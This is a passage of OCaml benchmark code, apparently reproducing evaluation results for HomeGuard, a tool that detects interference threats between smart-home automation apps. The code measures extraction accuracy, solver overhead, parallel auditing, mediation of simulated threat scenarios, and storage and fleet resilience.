  List.iter
    (fun (timeline, final) ->
      Printf.printf "  [%s] final=%s\n" (String.concat "->" timeline)
        (Option.value ~default:"-" final))
    outcomes;
  print_endline "(paper: on only / off only / on-then-off / off-then-on observed)"

(* ------------------------------------------------------------------ E3 *)

let e3_extraction_effectiveness () =
  section "E3. §VIII-B — rule extraction effectiveness";
  let correct = ref 0 and wrong = ref 0 in
  List.iter
    (fun (e : App_entry.t) ->
      let a = extract_app e in
      if List.length a.Rule.rules = e.App_entry.ground_truth_rules then incr correct
      else incr wrong)
    Corpus.rule_defining;
  Printf.printf "rule-defining apps analyzed: %d\n" (List.length Corpus.rule_defining);
  Printf.printf "correct vs manual ground truth: %d (incorrect: %d)\n" !correct !wrong;
  Printf.printf "web-services apps excluded (define no rules): %d\n"
    (List.length Corpus.web_services);
  print_endline "special cases handled by extending the models (paper §VIII-B):";
  print_endline "  FeedMyPet            device.petfeedershield added to the capability list";
  print_endline "  SleepyTime           device.jawboneUser added to the capability list";
  print_endline "  CameraPowerScheduler undocumented runDaily API modeled";
  Printf.printf "(paper: 124/146 before fixes, all special cases fixed; ours: %d/%d)\n" !correct
    (List.length Corpus.rule_defining)

(* ------------------------------------------------------------------ E4 *)

let e4_table_iii () =
  section "E4. Table III — extracting rules from malicious apps";
  Printf.printf "%-34s %-20s %-6s %s\n" "app" "attack class" "rules" "handled?";
  let handled = ref 0 in
  List.iter
    (fun (e : App_entry.t) ->
      let a = extract_app e in
      let analyzable = Apps_malicious.statically_analyzable e in
      let got = List.length a.Rule.rules in
      let ok = analyzable && got = e.App_entry.ground_truth_rules && got > 0 in
      if ok then incr handled;
      let attack =
        match e.App_entry.category with
        | App_entry.Malicious a -> App_entry.attack_to_string a
        | c -> App_entry.category_to_string c
      in
      Printf.printf "%-34s %-20s %-6d %s\n" e.App_entry.name attack got
        (if ok then "yes"
         else if not analyzable then "no (rules outside app / update attack)"
         else "NO"))
    Corpus.malicious;
  Printf.printf "handled: %d/%d (paper: all but endpoint & app-update attacks)\n" !handled
    (List.length Corpus.malicious)

(* ------------------------------------------------------------------ E5 *)

let group_of (a : Rule.smartapp) =
  let controls_mode =
    List.exists
      (fun (r : Rule.t) ->
        List.exists (fun act -> act.Rule.target = Rule.Act_location_mode) r.Rule.actions)
      a.Rule.rules
  in
  let controls_generic_switch =
    List.exists
      (fun (r : Rule.t) ->
        List.exists
          (fun act ->
            match act.Rule.target with
            | Rule.Act_device v ->
              Rule.capability_of_input a v = Some "switch"
              && Effects.classify a v = Effects.Generic_switch
            | _ -> false)
          r.Rule.actions)
      a.Rule.rules
  in
  if controls_mode then `Mode else if controls_generic_switch then `Switch else `Others

let e5_fig8 () =
  section "E5. Fig 8 — CAI statistics over the device-controlling corpus";
  let apps = Lazy.force audit_apps in
  let ctx = Detector.create Detector.offline_config in
  let threats, ms = time_ms (fun () -> Detector.detect_all ctx apps) in
  Printf.printf "apps in the audit pool: %d; exhaustive pairwise analysis in %.0f ms (%d solver calls)\n"
    (List.length apps) ms ctx.Detector.solver_calls;
  Printf.printf "total threat instances: %d\n\n" (List.length threats);
  Printf.printf "%-8s" "group";
  List.iter (fun c -> Printf.printf " %6s" (Threat.category_to_string c)) Threat.all_categories;
  print_newline ();
  List.iter
    (fun (label, group) ->
      Printf.printf "%-8s" label;
      List.iter
        (fun cat ->
          let n =
            List.length
              (List.filter
                 (fun (t : Threat.t) ->
                   t.Threat.category = cat
                   && (group_of t.Threat.app1 = group || group_of t.Threat.app2 = group))
                 threats)
          in
          Printf.printf " %6d" n)
        Threat.all_categories;
      print_newline ())
    [ ("Switch", `Switch); ("Mode", `Mode); ("Others", `Others) ];
  print_endline
    "(paper Fig 8 shape: switch/mode apps involved in all categories; CT and EC dominate)"

(* ------------------------------------------------------------------ P1 *)

(* The parallel batched engine (schedule.ml): plan the candidate pairs
   once, then compare the sequential path against a multi-domain fan-out
   on wall time and solver-call counts. The threat set must be identical
   (order-stable) at every job count — that is the engine's determinism
   guarantee. *)
let p1_parallel_audit () =
  section "P1. Parallel batched audit — 1 domain vs N domains (schedule.ml)";
  let apps = Lazy.force audit_apps in
  let plan_ctx = Detector.create Detector.offline_config in
  let pairs = Detector.candidate_pairs plan_ctx apps in
  let tagged_rules =
    List.fold_left (fun n (a : Rule.smartapp) -> n + List.length a.Rule.rules) 0 apps
  in
  let all_pairs = tagged_rules * (tagged_rules - 1) / 2 in
  Printf.printf "audit plan: %d candidate rule pairs (of %d cross/self pairs) after pre-filters\n"
    (Array.length pairs) all_pairs;
  let run jobs =
    let ctx = Detector.create Detector.offline_config in
    let threats, ms = time_ms (fun () -> Detector.detect_all ~jobs ctx apps) in
    (List.map Threat.to_string threats, ms, ctx.Detector.solver_calls)
  in
  (* At least two domains so the fan-out path is always exercised; on a
     single-core host the comparison degenerates to queue overhead. *)
  let njobs = max 2 (min 4 (Schedule.default_jobs ())) in
  Printf.printf "hardware parallelism (recommended domains): %d\n" (Schedule.default_jobs ());
  let t1, ms1, calls1 = run 1 in
  let tn, msn, callsn = run njobs in
  let no_reuse =
    let ctx =
      Detector.create { Detector.offline_config with Detector.reuse = false }
    in
    ignore (Detector.detect_all ctx apps);
    ctx.Detector.solver_calls
  in
  Printf.printf "%-28s %10s %14s\n" "configuration" "ms" "solver calls";
  Printf.printf "%-28s %10.0f %14d\n" "jobs=1 (sequential)" ms1 calls1;
  Printf.printf "%-28s %10.0f %14d\n" (Printf.sprintf "jobs=%d (domains)" njobs) msn callsn;
  Printf.printf "%-28s %10s %14d\n" "no reuse (ablation)" "-" no_reuse;
  Printf.printf "speedup: %.2fx wall time; symmetric cache saves %d solves vs unmemoized\n"
    (ms1 /. Float.max 0.001 msn)
    (no_reuse - calls1);
  Printf.printf "threat sets identical and order-stable across job counts: %b (%d threats)\n"
    (t1 = tn) (List.length t1);
  let pps ms = float_of_int (Array.length pairs) /. Float.max 0.001 ms *. 1000.0 in
  Printf.printf "throughput: %.0f pairs/sec sequential, %.0f pairs/sec at jobs=%d\n" (pps ms1)
    (pps msn) njobs;
  {
    Trajectory.title = "P1";
    metrics =
      Trajectory.
        [
          metric ~direction:Exact "candidate_pairs" (float_of_int (Array.length pairs));
          metric ~direction:Exact "threats" (float_of_int (List.length t1));
          metric ~direction:Exact "threats_identical_across_jobs"
            (if t1 = tn then 1.0 else 0.0);
          metric ~direction:Exact "solver_calls" (float_of_int calls1);
          metric ~direction:Exact "solver_calls_no_reuse" (float_of_int no_reuse);
          metric ~direction:Info "jobs_n" (float_of_int njobs);
          metric ~unit_:"ms" ~direction:Lower_better "wall_ms_jobs1" ms1;
          metric ~unit_:"ms" ~direction:Lower_better "wall_ms_jobsN" msn;
          metric ~unit_:"pairs/s" ~direction:Higher_better "pairs_per_sec_jobs1" (pps ms1);
          metric ~unit_:"pairs/s" ~direction:Higher_better "pairs_per_sec_jobsN" (pps msn);
        ];
  }

(* ------------------------------------------------------------------ P2 *)

(* Budget-check overhead: the fuel counters are decremented on every
   propagation step and search node, so compare the corpus audit with
   budgets disabled against the default budgets, sequentially and at the
   hardware job count. Under default budgets the whole corpus must stay
   decided (zero undecided pairs). *)
let p2_budget_overhead () =
  let module Budget = Homeguard_solver.Budget in
  section "P2. Solver budget overhead — unlimited vs default budgets";
  let apps = Lazy.force audit_apps in
  let run ~jobs spec =
    let ctx = Detector.create { Detector.offline_config with Detector.budget = spec } in
    let result, ms = time_ms (fun () -> Detector.audit_all ~jobs ctx apps) in
    (ms, result.Detector.undecided, List.length result.Detector.failures)
  in
  let njobs = Schedule.default_jobs () in
  Printf.printf "%-34s %10s %10s %8s\n" "configuration" "ms" "undecided" "failed";
  let metrics =
    List.concat_map
      (fun (label, key, jobs, spec) ->
        let ms, undecided, failed = run ~jobs spec in
        Printf.printf "%-34s %10.0f %10d %8d\n" label ms undecided failed;
        Trajectory.
          [
            metric ~unit_:"ms" ~direction:Lower_better ("wall_ms_" ^ key) ms;
            metric ~direction:Exact ("undecided_" ^ key) (float_of_int undecided);
            metric ~direction:Exact ("failed_" ^ key) (float_of_int failed);
          ])
      [
        ("jobs=1, no budget", "jobs1_nobudget", 1, Budget.unlimited_spec);
        ("jobs=1, default budget", "jobs1_default", 1, Budget.default_spec);
        (Printf.sprintf "jobs=%d, no budget" njobs, "jobsN_nobudget", njobs, Budget.unlimited_spec);
        (Printf.sprintf "jobs=%d, default budget" njobs, "jobsN_default", njobs, Budget.default_spec);
      ]
  in
  print_endline
    "(budget checks are two int decrements per step; default budgets must leave 0 undecided)";
  { Trajectory.title = "P2"; metrics }

(* ------------------------------------------------------------------ E6 *)

let e6_extraction_cost () =
  section "E6. §VIII-C — rule extraction computation and storage";
  let entries = Corpus.rule_defining in
  let runs = 10 in
  let _, total_ms =
    time_ms (fun () ->
        for _ = 1 to runs do
          List.iter (fun e -> ignore (extract_entry e)) entries
        done)
  in
  let per_app = total_ms /. float_of_int (runs * List.length entries) in
  let sizes =
    List.map (fun e -> String.length (Rule_json.to_string (extract_app e))) entries
  in
  let avg_size = List.fold_left ( + ) 0 sizes / List.length sizes in
  Printf.printf "extraction time: %.2f ms/app averaged over %d runs x %d apps\n" per_app runs
    (List.length entries);
  Printf.printf "rule-file size: %d bytes/app average (min %d, max %d)\n" avg_size
    (List.fold_left min max_int sizes)
    (List.fold_left max 0 sizes);
  print_endline "(paper: 1341 ms/app on a 3.4GHz i7 running Groovy; 6.2 KB/app JSON —";
  print_endline " the OCaml extractor is orders faster, file sizes the same order)"

(* ------------------------------------------------------------------ E7 *)

let e7_messaging () =
  section "E7. §VIII-C — configuration collection latency (100 trials)";
  let m = Messaging.create ~seed:42 () in
  let sms = Messaging.measure_mean m Messaging.Sms ~trials:100 in
  let http = Messaging.measure_mean m Messaging.Http ~trials:100 in
  Printf.printf "cloud-side processing (T2-T1): ~%.0f ms (paper: 27 ms)\n"
    Messaging.cloud_processing_mean;
  Printf.printf "SMS   end-to-end mean: %.0f ms (paper: 3120 ms)\n" sms;
  Printf.printf "HTTP  end-to-end mean: %.0f ms (paper: 1058 ms)\n" http;
  Printf.printf "crossover: HTTP is %.1fx faster than SMS (paper: ~2.9x)\n" (sms /. http)

(* ------------------------------------------------------------------ E8 *)

let pair_of name1 name2 =
  let a1 = app name1 and a2 = app name2 in
  ((a1, List.hd a1.Rule.rules), (a2, List.hd a2.Rule.rules))

let measure_detection ?(iters = 50) ~reuse pair detect_fn =
  let p1, p2 = pair in
  let _, ms =
    time_ms (fun () ->
        for _ = 1 to iters do
          let ctx = Detector.create { Detector.offline_config with Detector.reuse } in
          ignore (detect_fn ctx p1 p2 : Threat.t list)
        done)
  in
  ms /. float_of_int iters

let e8_fig9 ?(iters = 50) () =
  section "E8. Fig 9 — per-pair detection overhead by threat type";
  let ar_pair = pair_of "ComfortTV" "ColdDefender" in
  let gc_pair = pair_of "ItsTooCold" "ComfortWindow" in
  let ct_pair = pair_of "CatchLiveShow" "ComfortTV" in
  let ec_pair = pair_of "NightCare" "BurglarFinder" in
  let rows =
    [
      ("AR", "ar", measure_detection ~iters ~reuse:true ar_pair Detector.detect_ar, "full solve");
      ("GC", "gc", measure_detection ~iters ~reuse:true gc_pair Detector.detect_gc, "full solve");
      ( "CT/SD/LT (fresh)",
        "ct_sd_lt",
        measure_detection ~iters ~reuse:false ct_pair Detector.detect_trigger_interference,
        "solves conditions itself" );
      ( "EC/DC (fresh)",
        "ec_dc",
        measure_detection ~iters ~reuse:false ec_pair Detector.detect_condition_interference,
        "half the constraints of AR" );
    ]
  in
  Printf.printf "%-22s %10s   %s\n" "threat type" "ms/pair" "note";
  List.iter (fun (n, _, ms, note) -> Printf.printf "%-22s %10.3f   %s\n" n ms note) rows;
  (* reuse ablation (A1): full pipeline on one pair with/without memo;
     solver-call counts are the paper's metric (Fig 9's green lines) *)
  (* It's Too Hot vs Energy Saver is both an AR candidate and a CT pair,
     so the trigger-interference pass re-asks AR's conditions-overlap
     question — exactly the duplicate the memo removes *)
  let sd_pair = pair_of "ItsTooHot" "EnergySaver" in
  let full ctx p1 p2 = Detector.detect_pair ctx p1 p2 in
  let with_reuse = measure_detection ~iters ~reuse:true sd_pair full in
  let without = measure_detection ~iters ~reuse:false sd_pair full in
  let calls reuse =
    let ctx = Detector.create { Detector.offline_config with Detector.reuse } in
    let p1, p2 = sd_pair in
    ignore (Detector.detect_pair ctx p1 p2);
    ctx.Detector.solver_calls
  in
  Printf.printf "\nA1 ablation — all seven detections on one pair:\n";
  Printf.printf "  with solver-result reuse:     %.3f ms, %d constraint solves\n" with_reuse
    (calls true);
  Printf.printf "  without reuse (fresh solves): %.3f ms, %d constraint solves (%.2fx time)\n"
    without (calls false)
    (without /. Float.max 0.000001 with_reuse);
  print_endline "(paper Fig 9: constraint solving dominates; CT/SD/LT reuse the AR";
  print_endline " result and DC reuses EC; max total 1156 ms on a Galaxy S8)";
  {
    Trajectory.title = "FIG9";
    metrics =
      List.map
        (fun (_, key, ms, _) ->
          Trajectory.metric ~unit_:"ms" ~direction:Trajectory.Lower_better
            ("ms_per_pair_" ^ key) ms)
        rows
      @ Trajectory.
          [
            metric ~unit_:"ms" ~direction:Lower_better "a1_ms_with_reuse" with_reuse;
            metric ~unit_:"ms" ~direction:Lower_better "a1_ms_without_reuse" without;
            metric ~direction:Exact "a1_solves_with_reuse" (float_of_int (calls true));
            metric ~direction:Exact "a1_solves_without_reuse" (float_of_int (calls false));
          ];
  }

(* ------------------------------------------------------------------ E9 *)

let e9_chained () =
  section "E9. §VI-D — chained CAI threats";
  let make_it_so = app "MakeItSo" in
  let scm = app "SwitchChangesMode" in
  let curling = app "CurlingIron" in
  let ctx = Detector.create Detector.offline_config in
  let allowed = Chain.create () in
  let kept = Detector.detect_all ctx [ make_it_so; scm ] in
  Chain.allow allowed kept;
  Printf.printf "allowed pairs recorded: %d threats kept by the user\n" (List.length kept);
  let fresh =
    List.concat_map
      (fun r1 ->
        List.concat_map
          (fun (a2 : Rule.smartapp) ->
            List.concat_map
              (fun r2 -> Detector.detect_pair ctx (curling, r1) (a2, r2))
              a2.Rule.rules)
          [ make_it_so; scm ])
      curling.Rule.rules
  in
  Printf.printf "new threats when installing CurlingIron: %d\n" (List.length fresh);
  let chains = Chain.find_chains allowed fresh in
  Printf.printf "chained threats: %d\n" (List.length chains);
  List.iter (fun c -> Printf.printf "  %s\n" (Chain.chain_to_string c)) chains;
  print_endline "(paper §VIII-B(2): motion -> outlets on -> mode change -> door unlocked)"

(* ------------------------------------------------------------------ E10 *)

let e10_table_v () =
  section "E10. Table V — comparison with related work";
  Printf.printf "%-12s %-16s %-18s %-14s %s\n" "system" "inter-app" "proactive defense"
    "low overhead" "no runtime intervention";
  List.iter
    (fun (n, a, b, c, d) -> Printf.printf "%-12s %-16s %-18s %-14s %s\n" n a b c d)
    [
      ("ContexIoT", "no", "no", "no", "no");
      ("ProvThings", "yes", "no", "yes", "yes");
      ("SmartAuth", "no", "yes", "yes", "yes");
      ("HomeGuard", "yes", "yes", "yes", "yes");
    ]

(* ------------------------------------------------------------------ A2 *)

let a2_ast_grep_ablation () =
  section "A2. Ablation — symbolic execution vs AST keyword search";
  let apps_with_conditions =
    List.filter
      (fun (e : App_entry.t) ->
        let a = extract_app e in
        List.exists
          (fun (r : Rule.t) -> r.Rule.condition.Rule.predicate <> Formula.True)
          a.Rule.rules)
      Corpus.rule_defining
  in
  (* The SmartAuth-style grep baseline recovers subscriptions and sink
     names but tracks no data flow, so it recovers no predicate
     constraints (paper §V-B "why did prior approaches fail?"). *)
  let grep_constraints_found = 0 in
  let symx_constraints_found =
    List.fold_left
      (fun acc (e : App_entry.t) ->
        let a = extract_app e in
        acc
        + List.length
            (List.filter
               (fun (r : Rule.t) -> r.Rule.condition.Rule.predicate <> Formula.True)
               a.Rule.rules))
      0 apps_with_conditions
  in
  Printf.printf "apps whose rules carry predicate constraints: %d\n"
    (List.length apps_with_conditions);
  Printf.printf "condition-bearing rules recovered — symbolic execution: %d, AST grep: %d\n"
    symx_constraints_found grep_constraints_found;
  print_endline "(without constraints, overlap detection degenerates: every candidate";
  print_endline " pair would be reported, which is why the paper rejects AST search)"

(* ------------------------------------------------------------------ A3 *)

let a3_solver_ablation ?(iters = 500) () =
  section "A3. Ablation — DNF solving vs lazy DPLL splitting";
  let p1, p2 = pair_of "ComfortTV" "ColdDefender" in
  let f = Formula.conj [ Rule.situation (snd p1); Rule.situation (snd p2) ] in
  let store = Rule.store_for_rules [ p1; p2 ] in
  let _, dnf_ms =
    time_ms (fun () ->
        for _ = 1 to iters do
          ignore (Solver.satisfiable store f)
        done)
  in
  let _, dpll_ms =
    time_ms (fun () ->
        for _ = 1 to iters do
          ignore (Solver.satisfiable_dpll store f)
        done)
  in
  let per ms = ms /. float_of_int iters in
  Printf.printf "merged Fig-3 constraint set, %d solves each:\n" iters;
  Printf.printf "  DNF + propagate-and-split: %.4f ms/solve\n" (per dnf_ms);
  Printf.printf "  lazy DPLL splitting:       %.4f ms/solve\n" (per dpll_ms);
  print_endline "(rule formulas are small: both are far below the paper's JaCoP times)";
  {
    Trajectory.title = "A3";
    metrics =
      Trajectory.
        [
          metric ~unit_:"us" ~direction:Lower_better "dnf_us_per_solve" (per dnf_ms *. 1000.0);
          metric ~unit_:"us" ~direction:Lower_better "dpll_us_per_solve" (per dpll_ms *. 1000.0);
        ];
  }

(* ------------------------------------------------------------------ X1 *)

(* Multi-platform applicability (paper §VIII-D4, Table IV): IFTTT
   template rules lower into the same IR, so cross-platform CAI
   detection needs no new machinery. *)
let x1_multi_platform () =
  section "X1. Extension — §VIII-D4 multi-platform rules (IFTTT templates)";
  let applets =
    Homeguard_ifttt.Ifttt.parse_recipes ~name:"IftttRecipes"
      {|
# the homeowner's IFTTT account
IF hall.motion IS active THEN floorLamp DO on
EVERY DAY AT 19:00 THEN floorLamp DO on
|}
  in
  Printf.printf "parsed %d IFTTT applets into the shared rule IR\n"
    (List.length applets.Rule.rules);
  let night_care = app "NightCare" in
  let ctx = Detector.create Detector.offline_config in
  let threats = Detector.detect_all ctx [ applets; night_care ] in
  Printf.printf "cross-platform threats vs the NightCare SmartApp: %d\n" (List.length threats);
  List.iter (fun t -> Printf.printf "  %s\n" (Threat.to_string t)) threats;
  print_endline "(paper Table IV: only the rule extractor is platform-specific;";
  print_endline " template platforms need text parsing, not symbolic execution)"

(* ------------------------------------------------------------------ H1 *)

(* §VII handling: replay the E2 exploitation scenarios under the runtime
   mediator with the per-category default decisions. The witnesses the
   scenarios exist to exhibit must disappear; the mediation overhead per
   judged command is measured at the end. *)
let h1_mediation () =
  section "H1. §VII — threat handling: E2 exploits re-run under mediation";
  let threats_of names =
    let ctx = Detector.create Detector.offline_config in
    Detector.detect_all ctx (List.map app names)
  in
  let mediator_of threats () = Mediator.create (Policy.create ()) threats in
  let tv = Device.make ~label:"TV" ~device_type:"tv" [ "switch" ] in
  let window = Device.make ~label:"Window" ~device_type:"window" [ "switch" ] in
  let ts = Device.make ~label:"T" ~device_type:"temp" [ "temperatureMeasurement" ] in
  let ws = Device.make ~label:"W" ~device_type:"weather" [ "weatherSensor" ] in
  let voice = Device.make ~label:"Voice" ~device_type:"speaker" [ "musicPlayer" ] in
  let lamp = Device.make ~label:"Lamp" ~device_type:"light" [ "switch" ] in
  let motion = Device.make ~label:"Motion" ~device_type:"motion" [ "motionSensor" ] in
  let siren = Device.make ~label:"Siren" ~device_type:"alarm" [ "alarm" ] in
  let comfort t =
    Engine.install t (app "ComfortTV")
      [ ("tv1", Engine.B_device tv); ("tSensor", Engine.B_device ts);
        ("threshold1", Engine.B_int 30); ("window1", Engine.B_device window) ]
  in
  let race_setup t =
    comfort t;
    Engine.install t (app "ColdDefender")
      [ ("tv2", Engine.B_device tv); ("wSensor", Engine.B_device ws);
        ("window2", Engine.B_device window) ];
    Engine.stimulate t ts.Device.id "temperature" "31";
    Engine.stimulate t ws.Device.id "weather" "rainy";
    Engine.stimulate t tv.Device.id "switch" "on"
  in
  let run_scenario ?mediator ~until_ms setup =
    let t = Engine.create ~seed:1 ?mediator () in
    setup t;
    Engine.run t ~until_ms;
    (Engine.trace t, mediator)
  in
  (* AR: the Fig 3 window race *)
  let race_threats = threats_of [ "ComfortTV"; "ColdDefender" ] in
  let plain, _ = run_scenario ~until_ms:10_000 race_setup in
  let mediated, _ =
    run_scenario ~mediator:(mediator_of race_threats ()) ~until_ms:10_000 race_setup
  in
  Printf.printf "AR race:    window flaps %d -> %d, opposite commands %b -> %b\n"
    (Trace.flap_count plain "Window" "switch")
    (Trace.flap_count mediated "Window" "switch")
    (Trace.opposite_commands_within plain "Window" ~window_ms:10_000
       ~opposites:[ ("on", "off") ])
    (Trace.opposite_commands_within mediated "Window" ~window_ms:10_000
       ~opposites:[ ("on", "off") ]);
  (* CT: CatchLiveShow covertly opening the window through ComfortTV *)
  let covert_setup t =
    comfort t;
    Engine.install t (app "CatchLiveShow")
      [ ("voicePlayer", Engine.B_device voice); ("tv3", Engine.B_device tv) ];
    Engine.stimulate t ts.Device.id "temperature" "31";
    Engine.stimulate t voice.Device.id "status" "playing"
  in
  let ct_threats = threats_of [ "ComfortTV"; "CatchLiveShow" ] in
  let plain, _ = run_scenario ~until_ms:10_000 covert_setup in
  let mediated, _ =
    run_scenario ~mediator:(mediator_of ct_threats ()) ~until_ms:10_000 covert_setup
  in
  let show = function Some v -> v | None -> "-" in
  Printf.printf "CT covert:  window ends %s -> %s (suppressed commands: %d)\n"
    (show (Trace.final_attribute plain "Window" "switch"))
    (show (Trace.final_attribute mediated "Window" "switch"))
    (List.length (Trace.suppressed_commands mediated "Window"));
  (* DC: NightCare's lamp-off bypassing BurglarFinder's alarm *)
  let disable_setup t =
    Engine.install t (app "BurglarFinder")
      [ ("motion1", Engine.B_device motion); ("floorLamp", Engine.B_device lamp);
        ("alarm1", Engine.B_device siren) ];
    Engine.install t (app "NightCare") [ ("lamp5", Engine.B_device lamp) ];
    Engine.set_mode t "Night"
  in
  let disable_run ?mediator () =
    let t = Engine.create ~seed:1 ?mediator () in
    disable_setup t;
    Engine.run t ~until_ms:1_000;
    Engine.stimulate t lamp.Device.id "switch" "on";
    Engine.run t ~until_ms:400_000;
    Engine.stimulate t motion.Device.id "motion" "active";
    Engine.run t ~until_ms:500_000;
    Engine.trace t
  in
  let dc_threats = threats_of [ "BurglarFinder"; "NightCare" ] in
  let plain = disable_run () in
  let mediated = disable_run ~mediator:(mediator_of dc_threats ()) () in
  Printf.printf "DC disable: lamp ends %s -> %s, alarm %s -> %s\n"
    (show (Trace.final_attribute plain "Lamp" "switch"))
    (show (Trace.final_attribute mediated "Lamp" "switch"))
    (show (Trace.final_attribute plain "Siren" "alarm"))
    (show (Trace.final_attribute mediated "Siren" "alarm"));
  (* per-command mediation overhead over repeated race runs *)
  let reps = 200 in
  let _, t_plain =
    time_ms (fun () ->
        for _ = 1 to reps do
          ignore (run_scenario ~until_ms:10_000 race_setup)
        done)
  in
  let sample_m = mediator_of race_threats () in
  let _, t_med =
    time_ms (fun () ->
        for _ = 1 to reps do
          ignore (run_scenario ~mediator:(mediator_of race_threats ()) ~until_ms:10_000 race_setup)
        done)
  in
  let _, _ = run_scenario ~mediator:sample_m ~until_ms:10_000 race_setup in
  let judged = (Mediator.stats sample_m).Mediator.consulted in
  Printf.printf
    "mediation overhead: %.2fms -> %.2fms over %d runs (%d judged commands/run, %+.2fus per command)\n"
    t_plain t_med reps judged
    (if judged = 0 then 0.0 else (t_med -. t_plain) *. 1000.0 /. float_of_int (reps * judged));
  print_endline "(all three E2 witnesses disappear under the default §VII decisions)"

(* ------------------------------------------------------------------ J1 *)

(* Durable home-state journal: append throughput with and without the
   per-append fsync point, recovery replay time from a populated
   journal, and compaction time / size reduction. *)
let j1_journal () =
  section "J1. Durable journal: append / replay / compaction throughput";
  let module Journal = Homeguard_store.Journal in
  let module Event = Homeguard_store.Event in
  let module Home = Homeguard_store.Home in
  let config_payload i =
    Event.to_string
      (Event.Config
         { seq = Some i; uri = Printf.sprintf "http://my.com/appname:App%d/x:%d/" (i mod 7) i })
  in
  let append_run ~fsync n =
    let dir = fresh_dir "append" in
    Unix.mkdir dir 0o755;
    let j = Journal.open_append ~fsync (Filename.concat dir "journal") in
    let (), ms =
      time_ms (fun () ->
          for i = 1 to n do
            Journal.append j (config_payload i)
          done)
    in
    Journal.close j;
    (ms, float_of_int n /. ms *. 1000.0)
  in
  let n_buffered = 5_000 and n_synced = 500 in
  let ms_b, rate_b = append_run ~fsync:false n_buffered in
  Printf.printf "append (no fsync):   %5d records in %7.1fms (%.0f rec/s)\n" n_buffered ms_b
    rate_b;
  let ms_s, rate_s = append_run ~fsync:true n_synced in
  Printf.printf "append (fsync each): %5d records in %7.1fms (%.0f rec/s)\n" n_synced ms_s
    rate_s;
  (* recovery replay: a home with the two demo apps, a decision and a
     run of sequenced configs *)
  let dir = fresh_dir "home" in
  let home, _ = Home.open_ ~dir () in
  for i = 1 to 200 do
    ignore
      (Home.deliver home ~seq:i (Printf.sprintf "http://my.com/appname:App%d/x:%d/" (i mod 7) i))
  done;
  (match Home.install_app home (app "ComfortTV") with _ -> ());
  (match Home.install_app home (app "ColdDefender") with _ -> ());
  Home.set_decision home "EC:ColdDefender/ColdDefender#1->ComfortTV/ComfortTV#1" Policy.Allow;
  let jsize = Home.journal_size home in
  Home.close home;
  let (home, report), ms_replay = time_ms (fun () -> Home.open_ ~dir ()) in
  Printf.printf "recovery replay:     %d records (%d bytes) in %.1fms\n"
    report.Home.journal_records jsize ms_replay;
  let (), ms_compact = time_ms (fun () -> Home.compact home) in
  Printf.printf "compaction:          %d -> %d bytes in %.1fms\n" jsize
    (Home.snapshot_size home) ms_compact;
  Home.close home;
  let (home', report'), ms_replay' = time_ms (fun () -> Home.open_ ~dir ()) in
  Printf.printf "replay post-compact: %d snapshot records in %.1fms\n"
    report'.Home.snapshot_records ms_replay';
  Home.close home'

(* ------------------------------------------------------------------ O1 *)

(* Overload-safe serving: the same stall-injected install workload
   through the bare engine (every solve runs to completion, latency is
   whatever the stalls make it) and through the broker with a deadline
   (remaining allowance becomes the solver budget, expired work is
   shed). The broker trades completeness under overload — degraded
   replies, threats as a lower bound — for a bounded tail. *)
let o1_overload_serving () =
  section "O1. Overload-safe serving: request latency under stall injection";
  let module Broker = Homeguard_serve.Broker in
  let module Fault = Homeguard_solver.Fault in
  let module Home = Homeguard_store.Home in
  let module Install_flow = Homeguard_frontend.Install_flow in
  let setup tag =
    let home, _ = Home.open_ ~fsync:false ~dir:(fresh_dir tag) () in
    List.iter
      (fun n ->
        ignore (Home.propose home (app n));
        Home.decide home Install_flow.Keep)
      [ "AtticFanController"; "SmokeVent"; "VentWhenHumid" ];
    home
  in
  let report label n total_ms lats degraded =
    (* nearest-rank percentiles over completed requests only; a run
       where every request was shed has no latency sample to summarize *)
    match (Bstats.mean lats, Bstats.percentile 0.95 lats, Bstats.percentile 1.0 lats) with
    | Some mean, Some p95, Some max_lat ->
      Printf.printf
        "%-26s %3d req in %7.1fms (%5.1f req/s)  mean %5.1fms  p95 %5.1fms  max %5.1fms  degraded %d\n"
        label n total_ms
        (float_of_int n /. total_ms *. 1000.0)
        mean p95 max_lat degraded
    | _ ->
      Printf.printf "%-26s %3d req in %7.1fms — no completed requests\n" label n total_ms
  in
  let requests = 25 in
  let src = (Option.get (Corpus.find "BathroomFanTimer")).App_entry.source in
  (* baseline: the pre-broker path, no deadline, no shedding *)
  let bare () =
    let home = setup "bare" in
    let lats = ref [] in
    let (), total_ms =
      time_ms (fun () ->
          for _ = 1 to requests do
            let (), ms =
              time_ms (fun () ->
                  ignore (Home.propose home (app "BathroomFanTimer"));
                  Home.decide home Install_flow.Reject)
            in
            lats := ms :: !lats
          done)
    in
    Home.close home;
    report "bare engine (no deadline)" requests total_ms !lats 0
  in
  let brokered ~label deadline_ms =
    let home = setup "broker" in
    let config = { Broker.default_config with Broker.deadline_ms } in
    let broker = Broker.create ~config () in
    Broker.add_home broker ~id:"home" home;
    let lats = ref [] and degraded = ref 0 in
    let (), total_ms =
      time_ms (fun () ->
          for _ = 1 to requests do
            match Broker.install broker ~home:"home" ~name:"BathroomFanTimer" ~source:src () with
            | Broker.Proposed { degraded = d; elapsed_ms; _ } ->
              if d then incr degraded;
              lats := elapsed_ms :: !lats;
              Home.decide home Install_flow.Reject
            | Broker.Busy _ | Broker.Quarantined_app _ | Broker.Install_failed _ -> ()
          done)
    in
    Home.close home;
    report label requests total_ms !lats !degraded
  in
  (* every solve sleeps 10 ms: the slow-solver regime *)
  Fault.arm ~seed:11 ~rate_per_thousand:1000 (Fault.Stall 10.0);
  bare ();
  brokered ~label:"broker, no deadline" None;
  brokered ~label:"broker, 25 ms deadline" (Some 25.0);
  Fault.disarm ();
  print_endline
    "(the deadline bounds the tail by shedding; degraded replies never claim a clean bill)"

(* ------------------------------------------------------------------ F1 *)

(* Fleet under partial failure: the same synthetic-home config workload
   through a 4-shard supervisor with 0, 1 and 2 shards killed and held
   down (tick is never called, so nothing recovers mid-sweep). The
   fault-isolation claim is proportionality: every home owned by a
   surviving shard is served in full, every home owned by a dead shard
   is refused honestly — throughput loses at most the dead shards'
   share, never collapses to zero. A seeded smoke chaos campaign then
   contributes the scale-independent invariant counters that gate CI. *)
let f1_fleet () =
  section "F1. Fleet under partial failure — throughput with 0/1/2 dead shards";
  let module Supervisor = Homeguard_fleet.Supervisor in
  let module Chaos = Homeguard_fleet.Chaos in
  let module Synth = Homeguard_corpus.Synth in
  let n_homes = 16 and n_shards = 4 in
  let synth = Corpus.synth ~seed:7 ~n_homes in
  let total_configs =
    List.fold_left (fun a (h : Synth.home) -> a + List.length h.Synth.configs) 0 synth
  in
